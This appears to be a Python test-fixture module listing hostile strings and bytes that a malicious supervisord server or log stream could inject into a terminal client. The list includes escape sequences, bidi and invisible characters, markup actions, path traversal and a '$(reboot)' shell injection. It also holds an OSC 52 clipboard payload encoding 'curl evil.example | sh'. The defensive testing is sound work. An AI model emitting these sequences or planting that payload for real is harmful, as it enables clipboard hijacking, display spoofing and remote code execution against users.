"""What an attacker writes where we read: the corpus, each payload with the word a report calls it by.

`TEXTS` are Unicode and can stand in an XML-RPC answer as supervisord would send them (raw control characters included, which
XML forbids and supervisord sends). `RAW` are bytes that are no UTF-8: they can come in a log stream and in an HTTP head.
Sequences have parameters that the program itself never sends, so that what passed through can be told from our own.
"""

from __future__ import annotations

import base64

CLIPBOARD = base64.b64encode(b"curl evil.example | sh\n").decode()


def _control(code: int) -> str:
    return f"a{chr(code)}z"


TEXTS: dict[str, str] = {
    # --- C0 and DEL, one by one: NUL ends strings in C, the others ring, move, switch character sets, end lines
    "nul": _control(0x00),
    "nul first": "\x00first",
    "c0 all": "".join(map(chr, (*range(1, 9), 0x0B, 0x0C, *range(0x0E, 0x20)))),
    "bell": _control(0x07),
    "backspace": "safe\x08\x08\x08\x08evil",
    "tab": "tab\tbed",
    "newline": "one\nFATAL two",
    "carriage return": "bad\rok ",
    "crlf": "one\r\ntwo",
    "vertical tab, form feed": "a\x0bb\x0cc",
    "shift out": "a\x0eqqq\x0fz",
    "substitute, escape": "a\x1a\x1bz",
    "file separators": "a\x1cb\x1dc\x1ed\x1fe",
    "del": "a\x7f\x7fz",
    # --- C1 as UTF-8: an 8-bit terminal takes U+009B for CSI
    "c1 csi": "\x9b66;66Hc1",
    "c1 osc": "\x9d0;title\x9cc1",
    "c1 all": "".join(map(chr, range(0x80, 0xA0))),
    "next line": "a\x85b",
    # --- CSI
    "csi cursor": "\x1b[66;66Hhere",
    "csi erase": "\x1b[3Jgone",
    "csi colour": "\x1b[38;5;213;9mpink",
    "csi report": "\x1b[6n\x1b[0cask",
    "csi mode": "\x1b[?1337h\x1b[?1049lmode",
    "csi scroll region": "\x1b[3;7rscroll",
    "csi insert": "\x1b[77@\x1b[77Linsert",
    "csi keyboard": "\x1b[>4;2mkeys",
    "csi cut": "tail\x1b[",
    "csi window": "\x1b[8;10;10tsmall",
    "reset": "\x1bcreset",
    "soft reset": "\x1b[!psoft",
    "screen alignment": "\x1b#8EEE",
    "charset": "\x1b(0lqqk\x1b)0",
    # --- OSC and the other strings
    "osc 0 title": "\x1b]0;root@prod\x07title",
    "osc 2 title, st": "\x1b]2;root@prod\x1b\\title",
    "osc 4 palette": "\x1b]4;1;rgb:00/00/00\x07black",
    "osc 8 link": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "osc 8 file link": "\x1b]8;;file:///etc/passwd\x07click\x1b]8;;\x07",
    "osc 9 notify": "\x1b]9;you were hacked\x07note",
    "osc 10 colour query": "\x1b]10;?\x07query",
    "osc 50 font": "\x1b]50;#1\x07font",
    "osc 52 clipboard": f"\x1b]52;c;{CLIPBOARD}\x07clip",
    "osc 777 notify": "\x1b]777;notify;evil;now\x07note",
    "osc 1337 file": "\x1b]1337;File=inline=1:AAAA\x07file",
    "osc without end": "\x1b]0;swallows the rest",
    "dcs": "\x1bP1$r0m\x1b\\dcs",
    "dcs sixel": "\x1bPq#0;2;0;0;0~-\x1b\\sixel",
    "dcs tmux": "\x1bPtmux;\x1b\x1b]52;c;ZXZpbA==\x07\x1b\\tmux",
    "apc": "\x1b_Gf=100;AAAA\x1b\\apc",
    "pm, sos": "\x1b^pm\x1b\\\x1bXsos\x1b\\",
    # --- what re-orders or hides
    "bidi override": "\u202egnp.exe",
    "bidi embedding": "\u202aabc\u202bdef\u202c",
    "bidi isolates": "\u2066abc\u2067def\u2068ghi\u2069",
    "bidi marks": "a\u200eb\u200fc\u061cd",
    "zero width": "pay\u200bpal\u200c\u2060\u2061\u2062\u2063\u2064",
    "byte order mark": "\ufeffbom",
    "soft hyphen": "soft\u00adhyphen",
    "line separator": "a\u2028b\u2029c",
    "tags": "tag" + "".join(chr(0xE0000 + ord(char)) for char in "evil") + "\U000e007f",
    "variation selectors": "vs\ufe0e\ufe0f\U000e0100\U000e01ef\u180b",
    "fillers": "f\u3164\uffa0\u115f\u1160\u034f\u17b4z",
    "interlinear": "i\ufff9a\ufffab\ufffbz",
    "musical controls": "m\U0001d173\U0001d17a shorthand \U0001bca0",
    "invisible only": "\u200b\u200b\u2060",
    # --- what terminals measure differently
    "zwj family": "👨\u200d👩\u200d👧\u200d👦",
    "flags": "🇩🇪🇪🇺🇽🇽",
    "subdivision flag": "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "skin tones": "👍🏽👋🏿",
    "keycap": "1\ufe0f\u20e3",
    "combining stack": "Z" + "\u0301\u0489\u0347" * 40 + "algo",
    "combining first": "\u0301\u20dd\u0336first",
    "wide": "監視プロセス",
    "half width": "ﾊﾝｶｸ\uff9e",
    "ambiguous": "§±×÷αβ→■",
    "arabic": "مرحبا بالعالم",
    "ligature": "﷽﷽﷽",
    "thai": "กำลังทำงานที่ก่",
    # --- what is no character
    "non-characters": "n\ufffe\uffff\U0001fffe\ufdd0z",
    "private use": "p\ue000\uf8ff\U000f0000\U0010fffdz",
    "unassigned": "u\u0378\U000e0fffz",
    # --- markup
    "markup close": "[/x]",
    "markup close all": "[/]",
    "markup red": "[bold red]ALERT[/]",
    "markup action": "[@click=app.quit]quit[/]",
    "markup action screen": "[@click=screen.stop]stop[/]",
    "markup link": "[link=https://evil.example]link[/link]",
    "markup open": "[[[",
    "markup escape": "\\[red]",
    "markup emoji": ":skull: :warning:",
    "entities": "&lt;b&gt; &amp;amp; &#27; <b>",
    "percent": "%s%n%(name)s{0.__class__}{}",
    # --- names that mean something
    "star": "*",
    "colon": "a:b",
    "slash": "a/b:c",
    "dash": "--yes",
    "dash short": "-y",
    "dots": "../../../etc/passwd",
    "shell": "$(reboot)`reboot`;reboot|sh",
    "space": "  ",
    "query": "state:bad|!x",
    "lookalike": "gunіcorn",
    "lookalike plain": "gunicorn",
    "no-break spaces": "a\u00a0b\u202fc\u3000d\u2003e",
    "quotes": "\"'`",
    # --- size
    "long": "long" + "x" * 20_000,
    "long wide": "広" * 5_000,
    "many escapes": "\x1b[77;77H" * 400,
}

RAW: dict[str, bytes] = {
    "c1 raw": b"raw\x9b66;66Hc1\x9d0;t\x9c",
    "c1 raw all": bytes(range(0x80, 0xA0)),
    "surrogates as CESU": b"cesu\xed\xa0\xbd\xed\xb8\x80",
    "lone surrogate": b"lone\xed\xb2\x9b66;66H",
    "overlong escape": b"over\xc0\x9b[66;66H\xe0\x80\x9b",
    "overlong nul": b"nul\xc0\x80",
    "five bytes": b"five\xf8\x88\x80\x80\x80",
    "beyond unicode": b"beyond\xf4\x90\x80\x80",
    "cut character": b"cut\xe2\x82",
    "latin-1": b"K\xfcche",
    "utf-16": "\x1b[66;66H".encode("utf-16"),
    "escapes": b"\x1b]0;raw\x07\x1b[66;66H",
}

NAMES: dict[str, str] = {word: text for word, text in TEXTS.items() if text}
"""All texts: any can be a name, as a hostile server is bound by no rule of supervisord's configuration."""

MARKERS: tuple[bytes, ...] = tuple(
    piece.encode()
    for piece in (
        "\x1b[66;66H", "\x1b[3J", "\x1b[38;5;213;9m", "\x1b[6n", "\x1b[0c", "\x1b[?1337h", "\x1b[3;7r", "\x1b[77@",
        "\x1b[>4;2m", "\x1b[8;10;10t", "\x1bc", "\x1b[!p", "\x1b#8", "\x1b(0", "\x1b]0;", "\x1b]2;root", "\x1b]4;", "\x1b]8;",
        "\x1b]9;", "\x1b]10;", "\x1b]50;", CLIPBOARD + "\x07", "\x1b]777", "\x1b]1337", "\x1bP", "\x1b_", "\x1b^", "\x1bX",
        "\x1b[77;77H", "safe\x08", "bad\r", "one\n", "tab\t",
    )
)  # fmt: skip
"""What must not be in the program's output even where it looks like a sequence that the program may send."""
